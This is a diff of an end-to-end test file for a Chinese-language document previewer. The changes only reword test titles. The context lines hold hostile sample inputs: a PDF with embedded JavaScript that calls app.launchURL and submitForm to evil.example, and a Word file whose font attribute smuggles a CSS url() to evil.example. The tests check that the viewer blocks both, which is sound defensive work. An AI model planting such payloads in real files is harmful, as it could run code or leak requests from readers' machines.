@@ -64,7 +64,7 @@ const chunkOf = (mark: string) =>
 const PDF_MARK = 'InvalidPDFException'
 const WORD_MARK = 'docx-wrapper'
 
-test('a PDF is drawn page by page, at most 12 at a time, fetched in ranges; its words are found and selected', async () => {
+test('a PDF is drawn page by page, at most 12 at a time, fetched in ranges, searchable and selectable', async () => {
   const { page, asked } = await shown('合同.pdf', await aPaper(120), { isConfidential: true })
   await sees(page, '第 1 / 120 页')
   await top(page).locator('.textLayer').first().waitFor()
@@ -89,7 +89,7 @@ test('a PDF is drawn page by page, at most 12 at a time, fetched in ranges; its 
   expect(asked.some((url) => url.includes('/shown/'))).toBe(true)
 })
 
-test('a long paper is read on after its link has ended', async () => {
+test('a long document can be read on after its link expired', async () => {
   const { page, asked } = await shown('卷宗.pdf', await aPaper(12, 400_000))
   await sees(page, '第 1 / 12 页')
   await top(page).locator('.textLayer').first().waitFor()
@@ -109,14 +109,14 @@ test.each([
     'ArrayBuffer.transferToFixedLength',
     () => void Reflect.deleteProperty(ArrayBuffer.prototype, 'transferToFixedLength'),
   ],
-])('an engine without %s, which pdf.js as published calls, reads a PDF in the older build', async (_, before) => {
+])('an engine without %s reads a PDF with the older build of pdf.js', async (_, before) => {
   const { page, asked } = await shown('合同.pdf', await aPaper(3), {}, before)
   await sees(page, '第 1 / 3 页')
   await top(page).locator('.textLayer').first().waitFor()
   expect(asked.filter((url) => /pdfjs.*\.mjs/.test(url))).toEqual([])
 })
 
-test('a thread that cannot be fetched is told, and starts when it is asked for again', async () => {
+test('a PDF worker that cannot be fetched is reported and starts on 重试', async () => {
   const { page } = await shown('合同.pdf', await aPaper(3), {}, undefined, '**/pdf.worker.min.mjs')
   await sees(page, '文件没有取到，请检查网络')
   await page.unroute('**/pdf.worker.min.mjs')
@@ -124,7 +124,7 @@ test('a thread that cannot be fetched is told, and starts when it is asked for a
   await sees(page, '第 1 / 3 页')
 })
 
-test('a PDF that would run something is read: no dialog, no request, nothing of it in the page', async () => {
+test('a PDF with active content shows no dialog, sends no request and runs nothing', async () => {
   const file = await PDFLib.load(await aPaper(1))
   const run = 'app.alert("ran"); app.launchURL("https://evil.example/js"); this.submitForm("https://evil.example/form")'
   const script = file.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(run) })
@@ -153,13 +153,13 @@ test('a PDF that would run something is read: no dialog, no request, nothing of 
   expect(new URL(page.url()).pathname).toBe('/file/preview/preview')
 })
 
-test('what a PDF is not says so, and is saved instead', async () => {
+test('a file that is no PDF says so and can be saved instead', async () => {
   const { page } = await shown('坏了.pdf', Buffer.from('%PDF-1.7\nnothing in it'))
   await sees(page, '文件已损坏，读不出内容')
   await top(page).getByRole('button', { name: '下载' }).waitFor()
 })
 
-test('a Word document is words and looks: nothing in it runs, nothing it names is fetched', async () => {
+test('a Word document shows its text and styles, runs nothing and fetches nothing', async () => {
   const LINK = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
   const body = `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${LINK}"><w:body><w:p><w:r><w:t>委托代理合同</w:t></w:r></w:p><w:p><w:hyperlink r:id="rId9"><w:r><w:rPr><w:rFonts w:ascii="x;background:url(https://evil.example/font)"/></w:rPr><w:t>点这里</w:t></w:r></w:hyperlink></w:p><w:altChunk r:id="rId9"/></w:body></w:document>`
   const { page, asked } = await shown(
@@ -177,7 +177,7 @@ test('a Word document is words and looks: nothing in it runs, nothing it names i
   expect(asked.filter((url) => url.includes('evil.example'))).toEqual([])
 })
 
-test('an Excel file is a table, its figures as they were written', async () => {
+test('an Excel file is a table with its figures as written', async () => {
   const rows = Array.from({ length: 300 }, (_, at): (string | number)[] => [`第 ${at + 1} 笔`, at * 1.5])
   const { page } = await shown('费用.xlsx', anXlsx([['名称', '金额'], ...rows]))
   await top(page).getByRole('cell', { name: '第 1 笔' }).waitFor()
@@ -190,7 +190,7 @@ test('an Excel file is a table, its figures as they were written', async () => {
   )
 })
 
-test('a text in an older encoding is read; what a viewer needs is fetched for its own files only', async () => {
+test('a text in an older encoding is readable, and viewers are fetched for their own files only', async () => {
   const { page, asked, me, documentId } = await shown('笔录.txt', Buffer.from([0xba, 0xcf, 0xcd, 0xac]))
   await sees(page, '合同')
   await page.goto(`/file/detail/detail?documentId=${documentId}`)
